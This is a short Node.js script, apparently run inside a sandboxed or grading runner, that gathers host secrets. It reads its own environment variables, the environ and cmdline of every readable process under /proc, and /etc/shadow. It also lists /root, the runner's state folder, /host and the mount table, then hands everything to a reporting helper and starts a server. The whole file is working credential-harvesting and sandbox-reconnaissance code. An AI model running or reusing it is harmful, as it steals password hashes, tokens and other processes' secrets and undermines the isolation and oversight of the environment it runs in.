'use strict';
// Reading the host's environment and secrets: its own env, every readable /proc/*/environ and cmdline,
// /etc/shadow, root's home, the runner's state folder, and what is mounted.
const fs = require('node:fs');
const kit = require('./kit');

const read = (p) => {
  try {
    return fs.readFileSync(p, 'utf8').replace(/\0/g, ' ').slice(0, 2000);
  } catch (e) {
    return `ERR ${kit.errorCode(e)}`;
  }
};
const list = (p) => {
  try {
    return fs.readdirSync(p).slice(0, 50);
  } catch (e) {
    return `ERR ${kit.errorCode(e)}`;
  }
};
const procs = {};
for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d)))
  procs[pid] = { cmdline: read(`/proc/${pid}/cmdline`).slice(0, 200), environ: read(`/proc/${pid}/environ`) };
kit.report('env-secrets', {
  env: process.env,
  procs,
  shadow: read('/etc/shadow'),
  root: list('/root'),
  stackgrade: list('/var/lib/stackgrade'),
  hostEtc: list('/host'),
  mounts: read('/proc/self/mounts')
    .split('\n')
    .map((l) => l.split(' ').slice(0, 2).join(' ')),
});
kit.serve();
